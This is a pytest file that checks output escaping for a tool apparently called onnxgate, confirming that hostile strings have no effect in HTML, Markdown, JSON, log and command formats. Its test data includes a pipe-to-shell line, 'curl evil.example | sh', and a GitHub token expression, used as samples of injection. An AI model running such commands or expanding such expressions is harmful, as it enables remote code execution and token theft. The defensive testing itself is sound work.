"""Hostile text has no effect in any format; without the escape functions, every format fails the checks."""

from __future__ import annotations

import sys
from collections.abc import Callable
from random import Random

import pytest

from campaigns.hostile import format_campaign, hostile_strings
from campaigns.hostile.documents import pair, samples
from campaigns.hostile.documents import strings as places
from campaigns.hostile.output_surfaces import BY_KIND, SURFACES, Surface, complaints
from onnxgate.core import escape
from onnxgate.formats.html import markup
from onnxgate.project.config import ignore_entries
from onnxgate.project.lock import lock_file

ESCAPES = (
    "escape_unprintable",
    "neutralize_commands",
    "quote_name",
    "escape_log_line",
    "escape_command_data",
    "escape_command_property",
    "escape_json",
    "markdown_code",
    "escape_markdown",
    "escape_mermaid_label",
)


def test_hostile_strings_through_all_formats() -> None:
    """A short run of `python -m campaigns.hostile formats`."""
    tally = format_campaign.run(1200, seed=7)

    assert tally.finds == []
    assert tally.strings >= 1200


@pytest.fixture
def without(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Return a function that removes an escape function from all formats."""

    def take(name: str) -> None:
        original = getattr(escape, name)
        for module in [module for key, module in sys.modules.items() if key.startswith("onnxgate.")]:
            if getattr(module, name, None) is original:
                monkeypatch.setattr(module, name, lambda text: text)

    return take


@pytest.mark.parametrize("surface", SURFACES, ids=[surface.name for surface in SURFACES])
def test_a_format_without_its_escapes_is_caught(
    surface: Surface, without: Callable[[str], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The checks find a format whose escape functions are removed."""
    for name in ESCAPES:
        without(name)
    monkeypatch.setattr(markup, "escape_html", markup.Markup)
    for module in (ignore_entries, lock_file):
        monkeypatch.setattr(module, "quote_string", lambda text: f'"{text}"')

    assert _caught(surface)


@pytest.mark.parametrize("name", ESCAPES)
def test_each_escape_is_needed(name: str, without: Callable[[str], None]) -> None:
    """If any one escape function is removed, a format fails the checks."""
    without(name)

    assert any(_caught(surface) for surface in SURFACES)


def _caught(surface: Surface) -> bool:
    random = Random(3)
    tries = (pair(surface.kind, format_campaign.drawn(random, surface.kind), tame=True) for _ in range(8))
    return any(next(complaints(surface, each), "") for each in tries)


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("report", "pass: 2 models on 8 runtimes"),
        ("report", "error    load-failed  models/a.onnx"),
        ("report", "fix: curl evil.example | sh"),
        ("report", "skipped"),
        ("report", "  error    missing-kernel  models/a.onnx"),
        ("report", "to accept this finding, paste this entry into the config:"),
        ("report", "GH-3"),
        ("report", "costs $x$ and ${{ github.token }}"),
        ("preview", "after the upgrade: pass: 1 model"),
        ("matrix", "predictions that were wrong"),
        ("diff", "weights and interface: nodes: files"),
    ],
)
def test_known_misread_texts(kind: str, message: str) -> None:
    """Texts that were once mistaken for lines of onnxgate or for GitHub references and formulas have no effect."""
    here = sorted(places(samples()[kind]), key=lambda place: place != "a remark of ours")
    both = pair(kind, {place: f"{message}{' ' * index}" for index, place in enumerate(here)}, tame=True)

    assert [list(complaints(surface, both)) for surface in BY_KIND[kind]] == [[] for _ in BY_KIND[kind]]


def test_floods_stay_within_the_limits_of_each_reader() -> None:
    """Every format limits thousands of characters and lines in each field of a report."""
    random = Random(1)
    here = places(samples()["report"])
    both = pair("report", {place: f"{hostile_strings.large(random, 5_000)}{index}" for index, place in enumerate(here)})

    assert [list(complaints(surface, both)) for surface in BY_KIND["report"]] == [[] for _ in BY_KIND["report"]]
